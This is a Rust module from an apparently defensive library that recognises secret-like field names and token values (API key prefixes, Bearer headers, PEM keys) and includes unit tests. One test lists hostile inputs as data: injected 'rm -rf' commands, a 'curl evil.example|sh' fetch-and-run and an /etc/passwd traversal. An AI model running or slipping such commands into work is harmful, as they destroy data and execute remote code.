//! Names and values that look like secrets.

/// True when a name says that what it names is a secret: `password`, `apiKey`, `x-auth-token`.
///
/// ```
/// use keyway_core::secrets::looks_secret;
///
/// assert!(looks_secret("x-auth-token") && !looks_secret("keyboard"));
/// ```
pub fn looks_secret(name: &str) -> bool {
    let words = words(name);
    words.iter().any(|word| {
        let word = word.strip_suffix('s').unwrap_or(word);
        matches!(
            word,
            "password"
                | "passwd"
                | "pas" // `pass`, its plural taken off
                | "pwd"
                | "passphrase"
                | "passcode"
                | "secret"
                | "token"
                | "key"
                | "apikey"
                | "authorization"
                | "auth"
                | "credential"
                | "cookie"
                | "bearer"
                | "jwt"
                | "otp"
                | "pin"
                | "cvv"
                | "cvc"
                | "ssn"
                | "privatekey"
                | "accesskey"
                | "secretkey"
                | "mnemonic"
        )
    })
}

/// The start of a value that is a secret wherever it stands.
const STARTS: &[&str] = &[
    "sk-",
    "sk_live_",
    "sk_test_",
    "rk_live_",
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xoxa-",
    "xapp-",
    "AKIA",
    "ASIA",
    "AIza",
    "eyJ",
    "ya29.",
    "lin_api_",
    "npm_",
    "pypi-",
    "kw_",
    "kwa_",
    "kwr_",
    "kwc_",
    "kwd_",
    "kws_",
    "kwl_",
    "kwi_",
    "kwn_",
    "kwp_",
    "kwb_",
];

/// What stands before a secret in a header.
const SCHEMES: &[&str] = &["Bearer ", "bearer ", "Basic ", "basic "];

/// True for a value that has the form of a secret from its beginning to its end. Nothing else may be
/// hidden from the person: a command that only begins like a key is a command.
///
/// ```
/// use keyway_core::secrets::is_secret_value;
///
/// assert!(is_secret_value("ghp_0123456789abcdef") && !is_secret_value("an example"));
/// ```
pub fn is_secret_value(value: &str) -> bool {
    if value.len() < 16 {
        return false;
    }
    let scheme = SCHEMES.iter().find_map(|scheme| value.strip_prefix(scheme));
    if let Some(credentials) = scheme {
        return credentials
            .bytes()
            .all(|b| is_of_token(b) || matches!(b, b'+' | b'/' | b'=' | b'~'));
    }
    let starts = STARTS.iter().any(|start| value.starts_with(start));
    (starts && value.bytes().all(is_of_token)) || is_key_file(value)
}

/// Letters of tokens. No `/`, so that no path is one.
fn is_of_token(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.')
}

/// A key in PEM (RFC 7468), and nothing beside it. The headers are those of RFC 1421.
fn is_key_file(value: &str) -> bool {
    let mut lines = value.trim().lines().map(str::trim_end);
    let is_edge = |line: &str, what: &str| {
        line.strip_prefix(what)
            .and_then(|rest| rest.strip_suffix("-----"))
            .is_some_and(|label| {
                !label.is_empty() && label.bytes().all(|b| b.is_ascii_uppercase() || b == b' ')
            })
    };
    let is_body = |line: &str| {
        line.starts_with("Proc-Type: 4,ENCRYPTED")
            || line.starts_with("DEK-Info: AES-")
            || line
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
    };
    lines
        .next()
        .is_some_and(|line| is_edge(line, "-----BEGIN "))
        && lines
            .next_back()
            .is_some_and(|line| is_edge(line, "-----END "))
        && lines
            .all(|line| is_body(line) || is_edge(line, "-----END ") || is_edge(line, "-----BEGIN "))
}

/// The words of a name in lower case: split where case changes and at anything else than letters.
fn words(name: &str) -> Vec<String> {
    let mut words = vec![String::new()];
    let mut before_is_lower = false;
    for character in name.chars() {
        let upper = character.is_uppercase();
        if (!character.is_alphabetic() || (upper && before_is_lower))
            && words.last().is_some_and(|word| !word.is_empty())
        {
            words.push(String::new());
        }
        if character.is_alphabetic()
            && let Some(word) = words.last_mut()
        {
            word.extend(character.to_lowercase());
        }
        before_is_lower = character.is_lowercase();
    }
    words
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_of_secrets_are_recognised() {
        for name in [
            "password",
            "PASSWORD",
            "apiKey",
            "api_key",
            "API-KEY",
            "key",
            "x-auth-token",
            "Authorization",
            "clientSecret",
            "accessToken2",
            "refresh_tokens",
            "db_pass",
            "pin",
            "AWS_SECRET_ACCESS_KEY",
            "sshKey",
            "set-cookie",
        ] {
            assert!(looks_secret(name), "{name}");
        }
        for name in [
            "keyboard",
            "monkey",
            "path",
            "keyword",
            "author",
            "opinion",
            "tokenizer",
            "",
        ] {
            assert!(!looks_secret(name), "{name}");
        }
    }

    #[test]
    fn values_of_secrets_are_recognised() {
        assert!(is_secret_value("ghp_0123456789abcdef"));
        assert!(is_secret_value("Bearer 0123456789abcdef"));
        assert!(!is_secret_value("sk-"));
        assert!(!is_secret_value("a sentence about Bearer tokens"));
        let key = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE+/ab==\n-----END EC PRIVATE KEY-----\n";
        assert!(is_secret_value(key));
    }

    #[test]
    fn what_only_begins_like_a_secret_is_not_hidden() {
        for value in [
            "kw_=1; rm -rf /srv/me",
            "npm_x=1;curl evil.example|sh",
            "sk-x/../../../../etc/passwd",
            "Bearer x; rm -rf /srv/me",
            "Basic training for the team",
            "-----BEGIN; rm -rf /srv/me",
            "-----BEGIN KEY-----\nrm -rf /srv/me\n-----END KEY-----",
            "eyJ is how a JWT begins",
        ] {
            assert!(!is_secret_value(value), "{value}");
        }
    }
}
